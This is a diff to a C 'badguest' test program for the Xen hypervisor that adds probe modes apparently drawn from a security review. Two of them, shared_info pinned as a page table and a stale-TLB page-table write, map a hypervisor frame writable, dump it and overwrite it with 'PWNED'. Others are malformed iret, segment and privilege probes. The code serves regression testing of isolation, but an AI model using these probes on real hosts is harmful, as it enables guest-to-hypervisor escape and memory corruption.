@@ -22,6 +22,18 @@
  *                            kernel stack (no stack_switch ever), so the
  *                            switch to kernel mode has nowhere to go
  *
+ * Probe modes, which must be refused (the guest runs on; see below):
+ *   shinfo_l1        make shared_info a page table (it is always writable)
+ *   stale_tlb        write a new page table through a writable mapping
+ *                    dropped without a TLB flush
+ *   np_cs_iret       iret to a not-present code segment of its own GDT
+ *                    (crashed: the CPU refuses the frame)
+ *   np_ss_iret       the same with a not-present stack segment (crashed)
+ *   np_gs            load a not-present selector into the user %gs
+ *   fpu_ts_yield     yield with the virtual CR0.TS set
+ *   user_priv        mov %cr3 from guest user mode (#GP for the guest)
+ *   remote_self      (as domain 0) remote_shutdown naming itself
+ *
  * No failsafe callback is registered: Xen delivers it when its own return
  * to the guest faults, which would hide the crash the iret modes expect.
  *
@@ -34,8 +46,11 @@
  */
 #include <public/callback.h>
 #include "arch.h"
+#include "args.h"
 #include "console.h"
+#include "frames.h"
 #include "hypercall.h"
+#include "pt.h"
 #include "pv.h"
 #include "string.h"
 #include "badguest.h"
@@ -104,7 +119,169 @@ static void act_syscall32_no_kernel_stack(void)
                   (uint64_t)user_stack + sizeof(user_stack), FLAT_USER_SS);
 }
 
+
+/*
+ * The probe modes (found by a security review) try to reach hypervisor
+ * memory; they must be refused, or get the fault delivered, and run on.
+ * Should one ever succeed, it reads and overwrites a frame of the
+ * hypervisor image (HV_MSG_MFN, at HV_MSG_OFF: where the "the message is"
+ * format string lived when the hole was found) and marks the log with
+ * "PWNED", which the tests look for.  The mappings use an unused 2 MiB
+ * slot of the guest's L2 (PROBE_L2_SLOT).
+ */
+extern const uint8_t probe_user_code[];
+void probe_set_cr2(uint64_t v);
+static uint8_t probe_win[PAGE_SIZE] PAGE_ALIGNED_BSS;
+static uint8_t probe_gdt[PAGE_SIZE] PAGE_ALIGNED_BSS;
+#define PROBE_L2_SLOT 100
+#define PROBE_VA(slot) ((unsigned long)(slot) << 21)
+#define PROBE_PTE_RW (PTE_P | PTE_RW | PTE_US | PTE_A | PTE_D)
+#define HV_MSG_MFN 0x210
+#define HV_MSG_OFF 0xf6a
+
+static void probe_show(const char *what, volatile uint8_t *p)
+{
+    char buf[20];
+    unsigned int i;
+    for (i = 0; i < 16; i++)
+        buf[i] = (p[i] >= 0x20 && p[i] < 0x7f) ? p[i] : '.';
+    buf[16] = 0;
+    printk("badguest: %s reads \"%s\"\n", what, buf);
+}
+
+static void probe_patch(volatile uint8_t *p)
+{
+    const char *s = "PWNED by d1 :-)";
+    unsigned int i;
+    for (i = 0; s[i]; i++)
+        p[i] = s[i];
+    HYPERVISOR_print_string("x");
+}
+
+static void act_shinfo_l1(void)
+{
+    unsigned long sh = start_info->shared_info >> PAGE_SHIFT;
+    unsigned long l2 = pt_boot_table(GUEST_LINK_BASE, 2);
+    mmuext_op_t ops[2] = {
+        { .cmd = MMUEXT_CLEAR_PAGE, .arg1.mfn = sh },
+        { .cmd = MMUEXT_PIN_L1_TABLE, .arg1.mfn = sh },
+    };
+    long rc = HYPERVISOR_mmuext_op(ops, 2, NULL, DOMID_SELF);
+    volatile uint8_t *va = (volatile uint8_t *)(PROBE_VA(PROBE_L2_SLOT) + 2 * PAGE_SIZE);
+
+    printk("badguest: shared_info mfn %#lx clear+pin as L1: %ld\n", sh, rc);
+    if (rc)
+        return;
+    probe_set_cr2(pv_pte(HV_MSG_MFN, PROBE_PTE_RW));   /* emulated mov to cr2 */
+    rc = mmu_write_entry(l2, PROBE_L2_SLOT, pv_pte(sh, PV_PDE_FLAGS), NULL);
+    printk("badguest: hook shared_info under L2 slot %u: %ld\n", PROBE_L2_SLOT, rc);
+    if (rc)
+        return;
+    probe_show("hypervisor frame 0x210 via shared_info", va + HV_MSG_OFF);
+    probe_patch(va + HV_MSG_OFF);
+    probe_set_cr2(0);
+    mmu_write_entry(l2, PROBE_L2_SLOT, 0, NULL);
+    printk("badguest: unpin shared_info: %ld\n", pt_unpin(sh));
+}
+
+static void act_stale_tlb(void)
+{
+    unsigned long x, l2 = pt_boot_table(GUEST_LINK_BASE, 2);
+    volatile uint64_t *w = (volatile uint64_t *)probe_win;
+    volatile uint8_t *va = (volatile uint8_t *)PROBE_VA(PROBE_L2_SLOT + 1);
+    unsigned int i;
+    long rc;
+
+    frames_init();
+    x = frames_take_mfn();
+    rc = pt_map(probe_win, x, PV_PTE_RW);
+    printk("badguest: map spare frame %#lx RW at %p: %ld\n", x, probe_win, rc);
+    for (i = 0; i < 512; i++)
+        w[i] = 0;                   /* a valid (empty) L1, and a TLB entry */
+    rc = HYPERVISOR_update_va_mapping((unsigned long)probe_win, 0, 0 /* UVMF_NONE */);
+    printk("badguest: unmap it without a flush: %ld\n", rc);
+    rc = pt_pin(1, x);
+    printk("badguest: pin it as L1: %ld\n", rc);
+    if (rc)
+        return;
+    w[0] = pv_pte(HV_MSG_MFN, PROBE_PTE_RW);    /* through the stale TLB entry */
+    rc = mmu_write_entry(l2, PROBE_L2_SLOT + 1, pv_pte(x, PV_PDE_FLAGS), NULL);
+    printk("badguest: hook it under L2 slot %u: %ld\n", PROBE_L2_SLOT + 1, rc);
+    probe_show("hypervisor frame 0x210 via stale TLB", va + HV_MSG_OFF);
+    probe_patch(va + HV_MSG_OFF);
+    w[0] = 0;
+    mmu_write_entry(l2, PROBE_L2_SLOT + 1, 0, NULL);
+    pt_unpin(x);
+}
+
+static long probe_np_gdt(void)
+{
+    uint64_t *g = (uint64_t *)probe_gdt;
+    xen_ulong_t f = pv_va_to_mfn(probe_gdt);
+    long rc;
+
+    g[1] = 0x00207a0000000000ULL;   /* 64-bit code, DPL3, NOT present */
+    g[2] = 0x0000720000000000ULL;   /* data, DPL3, NOT present */
+    rc = pt_map(probe_gdt, f, PV_PTE_RO);
+    if (!rc)
+        rc = HYPERVISOR_set_gdt(&f, 512);
+    printk("badguest: set_gdt with not-present descriptors: %ld\n", rc);
+    return rc;
+}
+
+static void act_np_cs_iret(void)
+{
+    if (probe_np_gdt())
+        return;
+    badguest_iret((uint64_t)badguest_landing, 0x08, BAD_RFLAGS,
+                  (uint64_t)badguest_stack_top, FLAT_KERNEL_SS);
+}
+
+static void act_np_ss_iret(void)
+{
+    if (probe_np_gdt())
+        return;
+    badguest_iret((uint64_t)badguest_landing, KERNEL_CS_RPL0, BAD_RFLAGS,
+                  (uint64_t)badguest_stack_top, 0x10);
+}
+
+static void act_np_gs(void)
+{
+    if (probe_np_gdt())
+        return;
+    printk("badguest: set_segment_base(GS_USER_SEL, 0x13): %ld\n",
+           HYPERVISOR_set_segment_base(SEGBASE_GS_USER_SEL, 0x13));
+}
+
+static void act_fpu_ts_yield(void)
+{
+    printk("badguest: fpu_taskswitch(1): %ld\n", HYPERVISOR_fpu_taskswitch(1));
+    printk("badguest: yield: %ld\n", pv_yield());
+}
+
+static void act_user_priv(void)
+{
+    HYPERVISOR_stack_switch(FLAT_KERNEL_SS, (unsigned long)badguest_stack_top);
+    if (pv_set_user_baseptr())
+        return;
+    badguest_iret((uint64_t)probe_user_code, FLAT_USER_CS64, BAD_RFLAGS,
+                  (uint64_t)user_stack + sizeof(user_stack), FLAT_USER_SS);
+}
+
+static void act_remote_self(void)
+{
+    struct sched_remote_shutdown rs = { .domain_id = 0, .reason = SHUTDOWN_poweroff };
+    printk("badguest: remote_shutdown(self): %ld\n", HYPERVISOR_sched_op(SCHEDOP_remote_shutdown, &rs));
+}
 static const struct mode modes[] = {
+    { "remote_self", 0, act_remote_self },
+    { "shinfo_l1", 1, act_shinfo_l1 },
+    { "stale_tlb", 1, act_stale_tlb },
+    { "np_cs_iret", 1, act_np_cs_iret },
+    { "np_ss_iret", 1, act_np_ss_iret },
+    { "np_gs", 1, act_np_gs },
+    { "fpu_ts_yield", 0, act_fpu_ts_yield },
+    { "user_priv", 1, act_user_priv },
     { "iret_hypervisor_cs", 1, act_iret_hypervisor_cs },
     { "iret_noncanonical_rip", 0, act_iret_noncanonical_rip },
     { "iret_null_ss", 1, act_iret_null_ss },
